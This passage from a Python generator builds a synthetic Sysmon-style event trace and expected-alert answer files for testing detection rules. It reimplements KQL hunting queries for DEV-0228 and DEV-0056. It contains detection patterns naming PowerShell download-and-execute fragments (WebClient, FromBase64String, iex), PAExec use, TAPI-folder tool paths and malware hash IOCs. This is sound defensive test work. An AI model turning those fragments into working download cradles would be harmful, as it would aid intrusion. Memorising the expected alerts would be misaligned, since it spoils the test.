        # IOC list: any digest in Hashes (Sysmon's `ALGO=hex,...`)
        h = ev.get("Hashes")
        if isinstance(h, str):
            for part in h.replace(";", ",").replace(" ", ",").split(","):
                hexd = part.split("=", 1)[-1].strip().lower()
                if hexd in self.iocs:
                    out.append(R_IOC)
                    break
        assert out == [r for r in LOAD_ORDER if r in out]
        return out


# ---------------------------------------------------------------------------
# The KQL checker: engine/rules/kql/*.kql, re-implemented with Kusto's semantics

def _alnum(c):
    return c.isascii() and c.isalnum()


def kql_has(text, needle, cs=False):
    """Kusto `has`: the needle occurs with each alphanumeric end on a term
    boundary (terms are maximal runs of ASCII letters and digits)."""
    if text is None:
        return False
    hay, pat = (text, needle) if cs else (_low(text), _low(needle))
    start = hay.find(pat)
    while start != -1:
        end = start + len(pat)
        ok_start = not _alnum(pat[0]) or start == 0 or not _alnum(hay[start - 1])
        ok_end = not _alnum(pat[-1]) or end == len(hay) or not _alnum(hay[end])
        if ok_start and ok_end:
            return True
        start = hay.find(pat, start + 1)
    return False


def file_name(path):
    if path is None:
        return None
    return path.replace("/", "\\").rsplit("\\", 1)[-1]


def sha256_of(ev):
    h = ev.get("Hashes")
    if not isinstance(h, str):
        return None
    for part in h.split(","):
        label, _, hexd = part.partition("=")
        if label.upper() == "SHA256":
            return hexd.lower()
    return None


K_PAEXEC = "kql:dev-0228-paexec"
K_TAPI = "kql:dev-0228-tapi-files"
K_PS = "kql:dev-0056-powershell"
K_SE = "kql:sentinel-dev-0056-securityevent"
K_HASHES = "kql:sentinel-dev-0228-file-path-hashes"
# Load order: the files of engine/rules/kql sorted by name.
KQL_LOAD_ORDER = sorted([K_PAEXEC, K_TAPI, K_PS, K_SE, K_HASHES])

DEV0056_ANY = ("/q /c color f7&", "Net.We$()bClient", "$b,15,$b.Length-15")
FILES1 = ("C:\\Windows\\TAPI\\lsa.exe", "C:\\Windows\\TAPI\\pa.exe", "C:\\Windows\\TAPI\\pc.exe",
          "C:\\Windows\\TAPI\\Rar.exe")
FILES2 = ("svchost.exe", "wdmsvc.exe")
HASH1 = ("43109fbe8b752f7a9076eaafa417d9ae5c6e827cd5374b866672263fdebd5ec3",
         "ab50d8d707b97712178a92bbac74ccc2a5699eb41c17aa77f713ff3e568dcedb",
         "010e32be0f86545e116a8bc3381a8428933eb8789f32c261c81fd5e7857d4a77",
         "56cd102b9fc7f3523dad01d632525ff673259dbc9a091be0feff333c931574f7")
HASH2 = ("2a1044e9e6e87a032f80c6d9ea6ae61bbbb053c0a21b186ecb3b812b49eb03b7",
         "9ab7e99ed84f94a7b6409b87e56dc6e1143b05034a5e4455e8c555dbbcd0d2dd",
         "18a072ccfab239e140d8f682e2874e8ff19d94311fc8bb9564043d3e0deda54b")


def dev0056(cmd):
    return any(kql_has(cmd, v) for v in DEV0056_ANY) or (
        kql_has(cmd, "FromBase64String") and all(kql_has(cmd, v) for v in ("-nop", "iex", "(iex")))


class KqlChecker:
    def alerts(self, ev):
        kind = ev["kind"]
        proc = kind == "process_start"  # DeviceProcessEvents: either OS
        out = set()
        if proc:
            if _low(file_name(ev.get("Image")) or "") == "paexec.exe" \
                    or _low(ev.get("OriginalFileName") or "") == "paexec.exe":
                out.add(K_PAEXEC)
            cmd = ev.get("CommandLine")
            if dev0056(cmd):
                out.add(K_PS)
                if ev["os"] == "windows":  # SecurityEvent rows: Windows 4688s
                    out.add(K_SE)
            path, sha = ev.get("Image"), sha256_of(ev)
            if (any(kql_has(path, f) for f in FILES1) and any(kql_has(sha, h) for h in HASH1)) \
                    or (any(kql_has(path, f) for f in FILES2) and any(kql_has(sha, h) for h in HASH2)):
                out.add(K_HASHES)
        if kind in ("file_create", "file_write", "file_rename", "file_delete") \
                and kql_has(ev.get("TargetFilename"), "C:\\Windows\\TAPI"):
            out.add(K_TAPI)
        return [r for r in KQL_LOAD_ORDER if r in out]


# ---------------------------------------------------------------------------

def build():
    tr = Trace(seed=0x0228)
    scenario(tr)
    evs = sorted(tr.events, key=lambda e: (e[0], e[1]))
    # strictly increasing timestamps (a collision moves the later event by 1 ms)
    last = -1
    for e in evs:
        if e[0] <= last:
            e[0] = last + 1
        last = e[0]
        e[2]["ts"] = fmt_ts(e[0])
    validate(tr, evs)
    checker, kql = Checker(IOCS), KqlChecker()
    lines, expected, kql_expected, mismatches = [], [], [], []
    for i, (ms, _, ev, intent) in enumerate(evs, start=1):
        kql_expected.extend("%d %s" % (i, r) for r in kql.alerts(ev))
        got = checker.alerts(ev)
        if set(got) != set(intent):
            mismatches.append((i, ev.get("Image"), ev.get("CommandLine") or ev.get("TargetFilename"),
                               sorted(intent), got))
        lines.append(json.dumps(ev, ensure_ascii=False, separators=(",", ":")))
        expected.extend("%d %s" % (i, r) for r in got)
    if mismatches:
        for m in mismatches:
            print("MISMATCH line %d: %r %r intended=%s computed=%s" % m, file=sys.stderr)
        sys.exit(2)
    return "\n".join(lines) + "\n", "\n".join(expected) + "\n", "\n".join(kql_expected) + "\n"


def validate(tr, evs):
    """Internal consistency: process ids, parents, exits, hosts."""
    started = {}
    exited = set()
    for a, b_ in zip(evs, evs[1:]):
        assert a[0] < b_[0], "timestamps must strictly increase"
    by_sha256 = {}
    for _, _, ev, _ in evs:
        if "Hashes" in ev:  # one binary, one set of digests
            sha = ev["Hashes"].split("SHA256=")[1].split(",")[0]
            assert by_sha256.setdefault(sha, ev["Hashes"]) == ev["Hashes"], sha
    for i, (ms, _, ev, _) in enumerate(evs, start=1):
        host = ev["host"]
        assert host in (WS, FS)
        k = ev["kind"]
        if k == "process_start":
            key = (host, ev["ProcessId"])
            assert key not in started, ("pid reused", key, i)
            started[key] = i
            pkey = (host, ev["ParentProcessId"])
            parent = tr.procs[pkey]
            if not parent.preexisting:
                assert pkey in started and pkey not in exited, ("parent", i, pkey)
            assert ev["ParentImage"] == parent.image and ev["ParentCommandLine"] == parent.cmd
        else:
            key = (host, ev["ProcessId"])
            p = tr.procs[key]
            assert ev["Image"] == p.image
            if not p.preexisting:
                assert key in started and key not in exited, ("not running", i, key, ev)
            if k == "process_exit":
                exited.add(key)


def main():
    nd, ex, kex = build()
    outputs = ((NDJSON, nd), (EXPECTED, ex), (KQL_EXPECTED, kex))
    if "--check" in sys.argv[1:]:
        ok = True
        for path, want in outputs:
            with open(path, encoding="utf-8", newline="") as f:
                if f.read() != want:
                    print("%s is not this generator's output" % os.path.relpath(path), file=sys.stderr)
                    ok = False
        sys.exit(0 if ok else 1)
    for path, text in outputs:
        with open(path, "w", encoding="utf-8", newline="") as f:
            f.write(text)
    n_ev = nd.count("\n")
    print("%d events, %d expected alerts, %d expected KQL alerts" % (n_ev, ex.count("\n"), kex.count("\n")))


if __name__ == "__main__":
    main()
